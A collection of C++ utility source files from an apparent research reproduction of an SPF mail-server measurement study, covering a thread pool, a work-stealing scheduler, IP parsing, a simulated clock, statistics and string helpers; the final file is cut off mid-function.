// SPFAIL_THREADS environment variable; otherwise the hardware concurrency.
#pragma once

#include <condition_variable>
#include <cstddef>
#include <deque>
#include <functional>
#include <mutex>
#include <thread>
#include <vector>

#include "util/work_steal.hpp"

namespace spfail::util {

// `requested` <= 0 means "resolve from the environment": SPFAIL_THREADS if
// set and positive, else std::thread::hardware_concurrency(), else 1.
std::size_t resolve_thread_count(int requested);

class ThreadPool {
 public:
  // `threads` <= 0 resolves via resolve_thread_count.
  explicit ThreadPool(int threads = 0);
  ~ThreadPool();

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  std::size_t thread_count() const noexcept { return workers_.size(); }

  // Number of shards parallel_for_shards would use for `n` items: one per
  // worker, never more than `n` (and 0 for an empty range). Callers size
  // per-shard result storage with this before dispatching.
  std::size_t shard_count(std::size_t n) const noexcept {
    return n < workers_.size() ? n : workers_.size();
  }

  // Partition [0, n) into shard_count(n) contiguous, near-equal slices and
  // run fn(shard_index, begin, end) for each on the pool. Blocks until every
  // shard finished; if any shard threw, rethrows the first exception (in
  // shard order) after logging every suppressed one to stderr. An empty
  // range returns immediately.
  void parallel_for_shards(
      std::size_t n,
      const std::function<void(std::size_t shard, std::size_t begin,
                               std::size_t end)>& fn);

  // Number of batches parallel_for_batches would cut [0, n) into under the
  // work-stealing scheduler: batches_per_worker per thread, never more than
  // `n`. Callers size per-batch result storage with this. `opts` may be
  // unresolved; Auto fields resolve identically here and in the dispatch.
  std::size_t batch_count(std::size_t n, const SchedulerOptions& opts) const;

  // Partition [0, n) into batch_count(n, opts) contiguous, near-equal
  // batches (the shard split applied at finer grain) and run
  // fn(batch, begin, end) for each under the work-stealing scheduler
  // (DESIGN.md §16): each worker drains its preloaded deque and then steals
  // per opts.steal. Results must be recorded into slot `batch` — merging
  // slots in batch order is what keeps the output independent of which
  // worker ran what. Error contract matches parallel_for_shards.
  void parallel_for_batches(
      std::size_t n, const SchedulerOptions& opts,
      const std::function<void(std::size_t batch, std::size_t begin,
                               std::size_t end)>& fn);

  // Unified dispatch on the resolved policy: Static = shard_count slices via
  // parallel_for_shards, Steal = batch_count slices via parallel_for_batches.
  // slice_count() sizes the result vector either way.
  std::size_t slice_count(std::size_t n, const SchedulerOptions& opts) const;
  void parallel_for_slices(
      std::size_t n, const SchedulerOptions& opts,
      const std::function<void(std::size_t slice, std::size_t begin,
                               std::size_t end)>& fn);

 private:
  void worker_loop();
  // Blocks until `count` scheduled tasks signalled done, then logs every
  // suppressed error to stderr and rethrows the first (satellite of §16:
  // secondary shard failures used to vanish).
  struct Completion;
  static void await_and_rethrow(Completion& completion, std::size_t count,
                                std::vector<std::exception_ptr>& errors);

  std::vector<std::thread> workers_;
  std::deque<std::function<void()>> queue_;
  std::mutex mutex_;
  std::condition_variable work_available_;
  bool stopping_ = false;
};

}  // namespace spfail::util
