// Fixed-size worker pool for the sharded scan engine.
//
// The paper's scanner only finishes a round inside the 2-day cadence because
// it holds 250 concurrent SMTP connections; the reproduction gets the same
// effect from real threads. Shards are contiguous slices of an address-sorted
// work list, so results can be merged back in address order and the output is
// bit-identical at any thread count (see DESIGN.md, "Concurrency model").
//
// Thread count resolution: an explicit request wins; otherwise the
// SPFAIL_THREADS environment variable; otherwise the hardware concurrency.
#pragma once

#include <condition_variable>
#include <cstddef>
#include <deque>
#include <functional>
#include <mutex>
#include <thread>
#include <vector>

namespace spfail::util {

// `requested` <= 0 means "resolve from the environment": SPFAIL_THREADS if
// set and positive, else std::thread::hardware_concurrency(), else 1.
std::size_t resolve_thread_count(int requested);

class ThreadPool {
 public:
  // `threads` <= 0 resolves via resolve_thread_count.
  explicit ThreadPool(int threads = 0);
  ~ThreadPool();

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  std::size_t thread_count() const noexcept { return workers_.size(); }

  // Number of shards parallel_for_shards would use for `n` items: one per
  // worker, never more than `n` (and 0 for an empty range). Callers size
  // per-shard result storage with this before dispatching.
  std::size_t shard_count(std::size_t n) const noexcept {
    return n < workers_.size() ? n : workers_.size();
  }

  // Partition [0, n) into shard_count(n) contiguous, near-equal slices and
  // run fn(shard_index, begin, end) for each on the pool. Blocks until every
  // shard finished; if any shard threw, rethrows the first exception (in
  // shard order). An empty range returns immediately.
  void parallel_for_shards(
      std::size_t n,
      const std::function<void(std::size_t shard, std::size_t begin,
                               std::size_t end)>& fn);

 private:
  void worker_loop();

  std::vector<std::thread> workers_;
  std::deque<std::function<void()>> queue_;
  std::mutex mutex_;
  std::condition_variable work_available_;
  bool stopping_ = false;
};

}  // namespace spfail::util
