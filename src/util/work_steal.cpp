#include "util/work_steal.hpp"

#include <cstdlib>
#include <stdexcept>
#include <thread>

namespace spfail::util {

std::string to_string(SchedPolicy policy) {
  switch (policy) {
    case SchedPolicy::Auto:
      return "auto";
    case SchedPolicy::Static:
      return "static";
    case SchedPolicy::Steal:
      return "steal";
  }
  return "?";
}

std::string to_string(StealMode mode) {
  switch (mode) {
    case StealMode::Auto:
      return "auto";
    case StealMode::None:
      return "none";
    case StealMode::Random:
      return "random";
    case StealMode::Adversarial:
      return "adversarial";
  }
  return "?";
}

SchedPolicy parse_sched_policy(std::string_view text) {
  if (text == "auto") return SchedPolicy::Auto;
  if (text == "static") return SchedPolicy::Static;
  if (text == "steal") return SchedPolicy::Steal;
  throw std::invalid_argument("scheduler policy expects static/steal, got '" +
                              std::string(text) + "'");
}

StealMode parse_steal_mode(std::string_view text) {
  if (text == "auto") return StealMode::Auto;
  if (text == "none") return StealMode::None;
  if (text == "random") return StealMode::Random;
  if (text == "adversarial") return StealMode::Adversarial;
  throw std::invalid_argument(
      "steal mode expects none/random/adversarial, got '" + std::string(text) +
      "'");
}

SchedulerOptions SchedulerOptions::resolved() const {
  SchedulerOptions out = *this;
  if (out.policy == SchedPolicy::Auto) {
    if (const char* env = std::getenv("SPFAIL_SCHED");
        env != nullptr && *env != '\0') {
      out.policy = parse_sched_policy(env);
    }
    if (out.policy == SchedPolicy::Auto) out.policy = SchedPolicy::Steal;
  }
  if (out.steal == StealMode::Auto) {
    if (const char* env = std::getenv("SPFAIL_STEAL");
        env != nullptr && *env != '\0') {
      out.steal = parse_steal_mode(env);
    }
    if (out.steal == StealMode::Auto) out.steal = StealMode::Random;
  }
  if (out.batches_per_worker < 1) out.batches_per_worker = 1;
  return out;
}

ChaseLevDeque::ChaseLevDeque(std::size_t capacity)
    : buffer_(std::make_unique<std::atomic<std::size_t>[]>(
          capacity > 0 ? capacity : 1)),
      capacity_(capacity > 0 ? capacity : 1) {}

void ChaseLevDeque::push(std::size_t value) {
  const std::int64_t b = bottom_.load(std::memory_order_seq_cst);
  buffer_[static_cast<std::size_t>(b) % capacity_].store(
      value, std::memory_order_seq_cst);
  bottom_.store(b + 1, std::memory_order_seq_cst);
}

std::size_t ChaseLevDeque::pop() {
  const std::int64_t b = bottom_.load(std::memory_order_seq_cst) - 1;
  bottom_.store(b, std::memory_order_seq_cst);
  std::int64_t t = top_.load(std::memory_order_seq_cst);
  if (t > b) {
    // Already drained; restore bottom.
    bottom_.store(b + 1, std::memory_order_seq_cst);
    return kEmpty;
  }
  std::size_t value = buffer_[static_cast<std::size_t>(b) % capacity_].load(
      std::memory_order_seq_cst);
  if (t == b) {
    // Last element: settle the race against thieves on top_.
    if (!top_.compare_exchange_strong(t, t + 1, std::memory_order_seq_cst)) {
      value = kEmpty;  // a thief got it first
    }
    bottom_.store(b + 1, std::memory_order_seq_cst);
  }
  return value;
}

std::size_t ChaseLevDeque::steal() {
  std::int64_t t = top_.load(std::memory_order_seq_cst);
  const std::int64_t b = bottom_.load(std::memory_order_seq_cst);
  if (t >= b) return kEmpty;
  const std::size_t value =
      buffer_[static_cast<std::size_t>(t) % capacity_].load(
          std::memory_order_seq_cst);
  if (!top_.compare_exchange_strong(t, t + 1, std::memory_order_seq_cst)) {
    return kEmpty;  // lost to the owner's pop or another thief
  }
  return value;
}

bool ChaseLevDeque::empty() const {
  return top_.load(std::memory_order_seq_cst) >=
         bottom_.load(std::memory_order_seq_cst);
}

BatchScheduler::BatchScheduler(std::size_t batches, std::size_t workers,
                               const SchedulerOptions& opts)
    : steal_(opts.steal), remaining_(batches) {
  const std::size_t w = workers > 0 ? workers : 1;
  deques_.reserve(w);
  for (std::size_t i = 0; i < w; ++i) {
    deques_.push_back(
        std::make_unique<WorkerState>(batches, opts.seed ^ (i * 0x9E3779B9ULL |
                                                            1ULL)));
  }
  // Contiguous preload: worker w's deque holds the batch run static sharding
  // would hand it, lowest index on top — so a thief lifts the batch the
  // owner would reach last, and a no-steal drain visits them in order.
  const std::size_t base = batches / w;
  const std::size_t extra = batches % w;
  std::size_t next = 0;
  for (std::size_t i = 0; i < w; ++i) {
    const std::size_t count = base + (i < extra ? 1 : 0);
    for (std::size_t k = 0; k < count; ++k) deques_[i]->deque.push(next++);
  }
}

std::size_t BatchScheduler::steal_from_victims(std::size_t worker) {
  const std::size_t w = deques_.size();
  if (w <= 1) return ChaseLevDeque::kEmpty;
  // One randomized sweep over every other deque, starting at a seeded-random
  // victim. The draw order only affects which thread runs a batch — results
  // are index-addressed, so the schedule never shows in the output.
  std::uint64_t& rng = deques_[worker]->rng;
  rng ^= rng << 13;
  rng ^= rng >> 7;
  rng ^= rng << 17;
  const std::size_t start = static_cast<std::size_t>(rng % (w - 1));
  for (std::size_t k = 0; k < w - 1; ++k) {
    std::size_t victim = (start + k) % (w - 1);
    if (victim >= worker) ++victim;  // skip self
    const std::size_t got = deques_[victim]->deque.steal();
    if (got != ChaseLevDeque::kEmpty) return got;
  }
  return ChaseLevDeque::kEmpty;
}

std::size_t BatchScheduler::next(std::size_t worker) {
  WorkerState& self = *deques_[worker];
  for (;;) {
    std::size_t got = ChaseLevDeque::kEmpty;
    if (steal_ == StealMode::Adversarial) {
      // Maximal migration: raid every victim before touching the own deque.
      got = steal_from_victims(worker);
      if (got == ChaseLevDeque::kEmpty) got = self.deque.pop();
    } else {
      got = self.deque.pop();
      if (got == ChaseLevDeque::kEmpty && steal_ != StealMode::None) {
        got = steal_from_victims(worker);
      }
    }
    if (got != ChaseLevDeque::kEmpty) {
      remaining_.fetch_sub(1, std::memory_order_acq_rel);
      return got;
    }
    if (steal_ == StealMode::None) return kNone;  // own deque drained
    if (remaining_.load(std::memory_order_acquire) == 0) return kNone;
    // Everything is claimed or mid-steal; give the owners CPU.
    std::this_thread::yield();
  }
}

}  // namespace spfail::util
