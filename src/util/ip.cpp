#include "util/ip.hpp"

#include <cstdio>
#include <stdexcept>
#include <vector>

#include "util/strings.hpp"

namespace spfail::util {

IpAddress IpAddress::v4(std::uint32_t addr) noexcept {
  return v4(static_cast<std::uint8_t>(addr >> 24),
            static_cast<std::uint8_t>(addr >> 16),
            static_cast<std::uint8_t>(addr >> 8),
            static_cast<std::uint8_t>(addr));
}

IpAddress IpAddress::v4(std::uint8_t a, std::uint8_t b, std::uint8_t c,
                        std::uint8_t d) noexcept {
  IpAddress ip;
  ip.family_ = Family::V4;
  ip.bytes_ = {};
  ip.bytes_[0] = a;
  ip.bytes_[1] = b;
  ip.bytes_[2] = c;
  ip.bytes_[3] = d;
  return ip;
}

IpAddress IpAddress::v6(const std::array<std::uint8_t, 16>& bytes) noexcept {
  IpAddress ip;
  ip.family_ = Family::V6;
  ip.bytes_ = bytes;
  return ip;
}

namespace {

std::optional<IpAddress> parse_v4(std::string_view text) {
  const auto parts = split(text, '.');
  if (parts.size() != 4) return std::nullopt;
  std::array<std::uint8_t, 4> octets{};
  for (std::size_t i = 0; i < 4; ++i) {
    if (parts[i].empty() || parts[i].size() > 3) return std::nullopt;
    int value = 0;
    for (char c : parts[i]) {
      if (c < '0' || c > '9') return std::nullopt;
      value = value * 10 + (c - '0');
    }
    if (value > 255) return std::nullopt;
    octets[i] = static_cast<std::uint8_t>(value);
  }
  return IpAddress::v4(octets[0], octets[1], octets[2], octets[3]);
}

std::optional<int> parse_hex_group(std::string_view g) {
  if (g.empty() || g.size() > 4) return std::nullopt;
  int value = 0;
  for (char c : g) {
    int digit;
    if (c >= '0' && c <= '9') {
      digit = c - '0';
    } else if (c >= 'a' && c <= 'f') {
      digit = c - 'a' + 10;
    } else if (c >= 'A' && c <= 'F') {
      digit = c - 'A' + 10;
    } else {
      return std::nullopt;
    }
    value = value * 16 + digit;
  }
  return value;
}

std::optional<IpAddress> parse_v6(std::string_view text) {
  // Handle "::" zero-compression by splitting into head/tail group lists.
  std::vector<int> head, tail;
  bool saw_compression = false;

  const std::size_t comp = text.find("::");
  std::string_view head_text = text, tail_text;
  if (comp != std::string_view::npos) {
    saw_compression = true;
    head_text = text.substr(0, comp);
    tail_text = text.substr(comp + 2);
    if (tail_text.find("::") != std::string_view::npos) return std::nullopt;
  }

  const auto parse_groups = [](std::string_view part,
                               std::vector<int>& out) -> bool {
    if (part.empty()) return true;
    for (const auto& g : split(part, ':')) {
      const auto value = parse_hex_group(g);
      if (!value) return false;
      out.push_back(*value);
    }
    return true;
  };
  if (!parse_groups(head_text, head) || !parse_groups(tail_text, tail)) {
    return std::nullopt;
  }

  const std::size_t total = head.size() + tail.size();
  if (saw_compression ? total > 7 : total != 8) return std::nullopt;

  std::array<std::uint8_t, 16> bytes{};
  std::size_t idx = 0;
  for (int g : head) {
    bytes[idx++] = static_cast<std::uint8_t>(g >> 8);
    bytes[idx++] = static_cast<std::uint8_t>(g & 0xFF);
  }
  idx = 16 - tail.size() * 2;
  for (int g : tail) {
    bytes[idx++] = static_cast<std::uint8_t>(g >> 8);
    bytes[idx++] = static_cast<std::uint8_t>(g & 0xFF);
  }
  return IpAddress::v6(bytes);
}

}  // namespace

std::optional<IpAddress> IpAddress::parse(std::string_view text) {
  if (text.find(':') != std::string_view::npos) return parse_v6(text);
  return parse_v4(text);
}

std::uint32_t IpAddress::v4_value() const {
  if (!is_v4()) throw std::logic_error("IpAddress::v4_value on an IPv6 address");
  return (static_cast<std::uint32_t>(bytes_[0]) << 24) |
         (static_cast<std::uint32_t>(bytes_[1]) << 16) |
         (static_cast<std::uint32_t>(bytes_[2]) << 8) |
         static_cast<std::uint32_t>(bytes_[3]);
}

bool IpAddress::in_prefix(const IpAddress& network, int prefix_len) const noexcept {
  if (family_ != network.family_) return false;
  const int max_bits = is_v4() ? 32 : 128;
  if (prefix_len < 0 || prefix_len > max_bits) return false;
  int remaining = prefix_len;
  for (std::size_t i = 0; i < 16 && remaining > 0; ++i) {
    const int bits = remaining >= 8 ? 8 : remaining;
    const std::uint8_t mask =
        static_cast<std::uint8_t>(0xFF << (8 - bits));
    if ((bytes_[i] & mask) != (network.bytes_[i] & mask)) return false;
    remaining -= bits;
  }
  return true;
}

std::string IpAddress::to_string() const {
  char buf[64];
  if (is_v4()) {
    std::snprintf(buf, sizeof(buf), "%u.%u.%u.%u", bytes_[0], bytes_[1],
                  bytes_[2], bytes_[3]);
    return buf;
  }
  // Canonical-ish v6 text: full groups, no zero compression. Round-trips
  // through parse(); compression is cosmetic only.
  std::string out;
  for (int g = 0; g < 8; ++g) {
    const int value = (bytes_[g * 2] << 8) | bytes_[g * 2 + 1];
    std::snprintf(buf, sizeof(buf), "%x", value);
    if (g > 0) out.push_back(':');
    out.append(buf);
  }
  return out;
}

std::string IpAddress::spf_macro_form() const {
  if (is_v4()) return to_string();
  // RFC 7208 section 7.3: v6 addresses expand to dot-separated nibbles.
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out;
  out.reserve(63);
  for (std::size_t i = 0; i < 16; ++i) {
    if (i > 0) out.push_back('.');
    out.push_back(kDigits[bytes_[i] >> 4]);
    out.push_back('.');
    out.push_back(kDigits[bytes_[i] & 0xF]);
  }
  return out;
}

std::string IpAddress::reverse_pointer() const {
  if (is_v4()) {
    char buf[64];
    std::snprintf(buf, sizeof(buf), "%u.%u.%u.%u.in-addr.arpa", bytes_[3],
                  bytes_[2], bytes_[1], bytes_[0]);
    return buf;
  }
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out;
  for (int i = 15; i >= 0; --i) {
    out.push_back(kDigits[bytes_[static_cast<std::size_t>(i)] & 0xF]);
    out.push_back('.');
    out.push_back(kDigits[bytes_[static_cast<std::size_t>(i)] >> 4]);
    out.push_back('.');
  }
  out.append("ip6.arpa");
  return out;
}

}  // namespace spfail::util
