// Simulated time for the longitudinal measurement study.
//
// The paper's timeline runs from 2021-10-11 (initial measurement) through
// 2022-02-14 (final measurement). All simulation time is SimTime — seconds
// since the Unix epoch — with civil-date helpers so that modules can express
// events in the paper's own calendar terms.
#pragma once

#include <cstdint>
#include <string>

namespace spfail::util {

// Seconds since 1970-01-01T00:00:00Z.
using SimTime = std::int64_t;

constexpr SimTime kSecond = 1;
constexpr SimTime kMinute = 60;
constexpr SimTime kHour = 3600;
constexpr SimTime kDay = 86400;

struct CivilDate {
  int year = 1970;
  int month = 1;  // 1..12
  int day = 1;    // 1..31

  friend bool operator==(const CivilDate&, const CivilDate&) = default;
};

// Days since the epoch for a proleptic-Gregorian civil date.
// Howard Hinnant's public-domain algorithm.
constexpr std::int64_t days_from_civil(int y, int m, int d) noexcept {
  y -= m <= 2;
  const std::int64_t era = (y >= 0 ? y : y - 399) / 400;
  const unsigned yoe = static_cast<unsigned>(y - era * 400);
  const unsigned doy =
      static_cast<unsigned>((153 * (m + (m > 2 ? -3 : 9)) + 2) / 5 + d - 1);
  const unsigned doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
  return era * 146097 + static_cast<std::int64_t>(doe) - 719468;
}

constexpr CivilDate civil_from_days(std::int64_t z) noexcept {
  z += 719468;
  const std::int64_t era = (z >= 0 ? z : z - 146096) / 146097;
  const unsigned doe = static_cast<unsigned>(z - era * 146097);
  const unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
  const std::int64_t y = static_cast<std::int64_t>(yoe) + era * 400;
  const unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
  const unsigned mp = (5 * doy + 2) / 153;
  const unsigned d = doy - (153 * mp + 2) / 5 + 1;
  const unsigned m = mp + (mp < 10 ? 3 : -9);
  return CivilDate{static_cast<int>(y + (m <= 2)), static_cast<int>(m),
                   static_cast<int>(d)};
}

constexpr SimTime at_midnight(int year, int month, int day) noexcept {
  return days_from_civil(year, month, day) * kDay;
}

constexpr CivilDate to_civil(SimTime t) noexcept {
  std::int64_t days = t / kDay;
  if (t < 0 && t % kDay != 0) --days;
  return civil_from_days(days);
}

// "YYYY-MM-DD" for logs and table output.
std::string format_date(SimTime t);
// "YYYY-MM-DD HH:MM:SS"
std::string format_datetime(SimTime t);

// A monotonically advancing simulation clock shared by a simulation's
// components. Advancing backwards is a logic error and throws.
//
// Sharded scanning layers per-thread "lanes" on top: while a Lane is active
// on a thread, now() reads the shared base plus a thread-private offset, and
// advance_to/advance_by move only that offset. Workers therefore advance
// time independently without touching shared state; after the join, the
// owner folds the lane offsets back into the base (summing them reproduces
// the serial clock exactly — see DESIGN.md, "Concurrency model"). The base
// must not be advanced while worker lanes are live.
class SimClock {
 public:
  explicit SimClock(SimTime start = 0) noexcept : now_(start) {}

  SimTime now() const noexcept {
    return lane_.clock == this ? now_ + lane_.offset : now_;
  }

  void advance_to(SimTime t);
  void advance_by(SimTime delta) { advance_to(now() + delta); }

  // RAII thread-local lane over one clock. At most one lane per thread.
  class Lane {
   public:
    explicit Lane(const SimClock& clock);
    ~Lane();
    Lane(const Lane&) = delete;
    Lane& operator=(const Lane&) = delete;

    // Total simulated time this lane has advanced so far.
    SimTime offset() const noexcept { return lane_.offset; }

   private:
    const SimClock* clock_;
  };

 private:
  struct LaneState {
    const SimClock* clock = nullptr;
    SimTime offset = 0;
  };
  static thread_local LaneState lane_;

  SimTime now_;
};

}  // namespace spfail::util
