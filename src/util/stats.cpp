#include "util/stats.hpp"

#include <algorithm>
#include <cmath>
#include <stdexcept>
#include <vector>

namespace spfail::util {

double mean(std::span<const double> values) {
  if (values.empty()) return 0.0;
  double sum = 0.0;
  for (const double v : values) sum += v;
  return sum / static_cast<double>(values.size());
}

double stddev(std::span<const double> values) {
  if (values.size() < 2) return 0.0;
  const double m = mean(values);
  double sum = 0.0;
  for (const double v : values) sum += (v - m) * (v - m);
  return std::sqrt(sum / static_cast<double>(values.size()));
}

double percentile(std::span<const double> values, double q) {
  if (values.empty()) {
    throw std::invalid_argument("percentile: empty input");
  }
  q = std::clamp(q, 0.0, 1.0);
  std::vector<double> sorted(values.begin(), values.end());
  std::sort(sorted.begin(), sorted.end());
  const double position = q * static_cast<double>(sorted.size() - 1);
  const std::size_t lo = static_cast<std::size_t>(position);
  const std::size_t hi = std::min(lo + 1, sorted.size() - 1);
  const double frac = position - static_cast<double>(lo);
  return sorted[lo] * (1.0 - frac) + sorted[hi] * frac;
}

double median(std::span<const double> values) {
  return percentile(values, 0.5);
}

std::string sparkline(std::span<const double> values) {
  static const char* kBlocks[] = {"▁", "▂", "▃", "▄",
                                  "▅", "▆", "▇", "█"};
  if (values.empty()) return "";
  double lo = values[0], hi = values[0];
  for (const double v : values) {
    lo = std::min(lo, v);
    hi = std::max(hi, v);
  }
  std::string out;
  for (const double v : values) {
    int idx = 0;
    if (hi > lo) {
      idx = static_cast<int>(std::lround((v - lo) / (hi - lo) * 7.0));
      idx = std::clamp(idx, 0, 7);
    }
    out += kBlocks[idx];
  }
  return out;
}

}  // namespace spfail::util
