#include "util/strings.hpp"

#include <algorithm>
#include <cctype>
#include <cstdio>

namespace spfail::util {

std::vector<std::string> split(std::string_view s, char sep) {
  std::vector<std::string> out;
  std::size_t start = 0;
  while (true) {
    const std::size_t pos = s.find(sep, start);
    if (pos == std::string_view::npos) {
      out.emplace_back(s.substr(start));
      return out;
    }
    out.emplace_back(s.substr(start, pos - start));
    start = pos + 1;
  }
}

std::vector<std::string> split_any(std::string_view s, std::string_view seps) {
  std::vector<std::string> out;
  std::size_t start = 0;
  while (true) {
    const std::size_t pos = s.find_first_of(seps, start);
    if (pos == std::string_view::npos) {
      out.emplace_back(s.substr(start));
      return out;
    }
    out.emplace_back(s.substr(start, pos - start));
    start = pos + 1;
  }
}

std::string join(const std::vector<std::string>& parts, std::string_view sep) {
  std::string out;
  for (std::size_t i = 0; i < parts.size(); ++i) {
    if (i > 0) out.append(sep);
    out.append(parts[i]);
  }
  return out;
}

std::string to_lower(std::string_view s) {
  std::string out{s};
  std::transform(out.begin(), out.end(), out.begin(), [](unsigned char c) {
    return static_cast<char>(std::tolower(c));
  });
  return out;
}

bool iequals(std::string_view a, std::string_view b) {
  return a.size() == b.size() &&
         std::equal(a.begin(), a.end(), b.begin(), [](char x, char y) {
           return std::tolower(static_cast<unsigned char>(x)) ==
                  std::tolower(static_cast<unsigned char>(y));
         });
}

std::string_view trim(std::string_view s) {
  const auto is_space = [](char c) {
    return c == ' ' || c == '\t' || c == '\r' || c == '\n';
  };
  while (!s.empty() && is_space(s.front())) s.remove_prefix(1);
  while (!s.empty() && is_space(s.back())) s.remove_suffix(1);
  return s;
}

bool is_alnum(std::string_view s) {
  return std::all_of(s.begin(), s.end(), [](unsigned char c) {
    return std::isalnum(c) != 0;
  });
}

std::string with_commas(long long value) {
  const bool negative = value < 0;
  std::string digits = std::to_string(negative ? -value : value);
  std::string out;
  const std::size_t first_group = digits.size() % 3 == 0 ? 3 : digits.size() % 3;
  out.append(digits, 0, first_group);
  for (std::size_t i = first_group; i < digits.size(); i += 3) {
    out.push_back(',');
    out.append(digits, i, 3);
  }
  return negative ? "-" + out : out;
}

std::string percent(long long numerator, long long denominator, int decimals) {
  if (denominator == 0) return "0%";
  const double pct = 100.0 * static_cast<double>(numerator) /
                     static_cast<double>(denominator);
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%.*f%%", decimals, pct);
  return buf;
}

}  // namespace spfail::util
