// Work-stealing batch scheduler for the scan core (DESIGN.md §16).
//
// Static sharding (one contiguous slice per worker) leaves threads idle
// whenever slice costs are uneven — greylist backoff, fault-injected
// retries, and lazy-host materialisation all skew per-address cost. The
// scheduler instead splits the address-ordered work list into several small
// contiguous batches per worker, preloads each worker's deque with its own
// contiguous run of batches, and lets idle workers steal batches from
// victims' deques, Chase–Lev style: the owner pops its own bottom (LIFO,
// cache-warm), thieves take the top (FIFO, the batches the owner would reach
// last).
//
// Determinism: a batch is an index-addressed unit — batch b always covers
// the same [begin, end) of the master list and records its results into slot
// b, no matter which worker ran it. The merge walks slots in batch order,
// exactly the shard-index-order trick from src/obs/ and Interner::merge, so
// stdout/CSV/trace/metrics are byte-identical under any steal schedule
// (WorkStealDeterminism tests force the worst one). Stealing changes only
// *which thread* runs a batch; batches partition the address space, so host
// state stays single-writer and every lane-based output is already
// schedule-invariant.
#pragma once

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <memory>
#include <string>
#include <vector>

namespace spfail::util {

// How a wave fans out over the pool. Auto resolves SPFAIL_SCHED (static |
// steal), defaulting to Steal. Static is the pre-§16 one-contiguous-slice-
// per-worker path, kept as the byte-compare baseline.
enum class SchedPolicy : std::uint8_t { Auto = 0, Static, Steal };

// Victim selection once a worker's own deque runs dry. Auto resolves
// SPFAIL_STEAL (none | random | adversarial), defaulting to Random.
//   None         never steal — drain the own deque, then idle. The
//                no-steal schedule the determinism tests compare against.
//   Random       steal from a seeded-random victim (the production mode).
//   Adversarial  sweep-steal from every victim *before* touching the own
//                deque — maximal cross-worker migration, the worst-case
//                schedule the determinism tests force.
enum class StealMode : std::uint8_t { Auto = 0, None, Random, Adversarial };

std::string to_string(SchedPolicy policy);
std::string to_string(StealMode mode);
// Strict parsers for flag/env values; throw std::invalid_argument naming the
// rejected input. "auto" is accepted for both.
SchedPolicy parse_sched_policy(std::string_view text);
StealMode parse_steal_mode(std::string_view text);

struct SchedulerOptions {
  SchedPolicy policy = SchedPolicy::Auto;
  StealMode steal = StealMode::Auto;
  // Batches per worker under Steal: enough slack for stealing to matter,
  // few enough that per-batch lane setup stays in the noise.
  int batches_per_worker = 8;
  // Seeds the per-worker victim RNGs (worker w draws from seed ^ w).
  std::uint64_t seed = 0x57EA15EEDULL;

  // Auto fields resolved from the environment (SPFAIL_SCHED, SPFAIL_STEAL)
  // or their defaults; explicit values pass through — the same layering as
  // resolve_thread_count. Throws std::invalid_argument on malformed env.
  SchedulerOptions resolved() const;
};

// A fixed-capacity Chase–Lev deque over batch indices. The owner pushes and
// pops at the bottom; thieves steal from the top. This variant is preloaded
// single-threaded before the workers start and only drained concurrently —
// push() must not race steal() — which keeps the memory model simple enough
// to run clean under TSan with conservative seq_cst orders (TSan's
// standalone-fence support is incomplete, so the textbook relaxed+fence
// formulation would report false positives).
class ChaseLevDeque {
 public:
  static constexpr std::size_t kEmpty = static_cast<std::size_t>(-1);

  explicit ChaseLevDeque(std::size_t capacity);

  // Owner only; single-threaded preload phase.
  void push(std::size_t value);

  // Owner only: take the most recently pushed batch (LIFO). kEmpty when the
  // deque is drained.
  std::size_t pop();

  // Any thief: take the oldest batch (FIFO). kEmpty when drained or when the
  // steal lost a race (callers treat both as "try elsewhere").
  std::size_t steal();

  bool empty() const;

 private:
  std::atomic<std::int64_t> top_{0};
  std::atomic<std::int64_t> bottom_{0};
  std::unique_ptr<std::atomic<std::size_t>[]> buffer_;
  std::size_t capacity_;
};

// The per-wave scheduler: deques preloaded with contiguous batch runs (the
// static-shard split applied to batches), claimed by workers as they arrive.
// Built fresh per parallel_for_batches call — batch counts are small, so
// construction is noise.
class BatchScheduler {
 public:
  // `batches` total batches, dealt to `workers` deques contiguously (worker
  // w's deque holds its static-shard batch run, top = lowest index).
  BatchScheduler(std::size_t batches, std::size_t workers,
                 const SchedulerOptions& opts);

  std::size_t worker_count() const noexcept { return deques_.size(); }

  // Claim a worker identity; called once per participating thread.
  std::size_t claim_worker() {
    return next_worker_.fetch_add(1, std::memory_order_acq_rel);
  }

  // The next batch for `worker`, or kNone when the wave is fully claimed.
  // Own-deque pops first, then steals per the resolved StealMode
  // (Adversarial inverts that order to force migration).
  static constexpr std::size_t kNone = static_cast<std::size_t>(-1);
  std::size_t next(std::size_t worker);

 private:
  std::size_t steal_from_victims(std::size_t worker);

  struct WorkerState {
    ChaseLevDeque deque;
    std::uint64_t rng;  // xorshift victim-picker state, seeded per worker
    explicit WorkerState(std::size_t capacity, std::uint64_t seed)
        : deque(capacity), rng(seed) {}
  };

  StealMode steal_;
  std::vector<std::unique_ptr<WorkerState>> deques_;
  std::atomic<std::size_t> remaining_;
  std::atomic<std::size_t> next_worker_{0};
};

}  // namespace spfail::util
