#include "util/rng.hpp"

#include <cmath>
#include <numeric>

namespace spfail::util {

Rng Rng::fork(std::string_view label) noexcept {
  // Mix the parent's next output with the label hash so that forks with
  // distinct labels are independent and insensitive to sibling fork order.
  const std::uint64_t base = (*this)();
  return Rng{base ^ fnv1a(label)};
}

std::uint64_t Rng::uniform(std::uint64_t lo, std::uint64_t hi) noexcept {
  const std::uint64_t range = hi - lo;  // inclusive span minus one
  if (range == ~0ULL) return (*this)();
  // Debiased modulo (Lemire-style rejection would be faster; clarity wins here
  // since simulation setup is not hot).
  const std::uint64_t span = range + 1;
  const std::uint64_t limit = (~0ULL) - ((~0ULL) % span + 1) % span;
  std::uint64_t draw;
  do {
    draw = (*this)();
  } while (draw > limit && limit != 0);
  return lo + draw % span;
}

std::int64_t Rng::uniform_signed(std::int64_t lo, std::int64_t hi) noexcept {
  const auto ulo = static_cast<std::uint64_t>(lo);
  const auto uhi = static_cast<std::uint64_t>(hi);
  return static_cast<std::int64_t>(ulo + uniform(0, uhi - ulo));
}

double Rng::exponential(double rate) noexcept {
  // Inverse-CDF; guard against log(0).
  double u = uniform01();
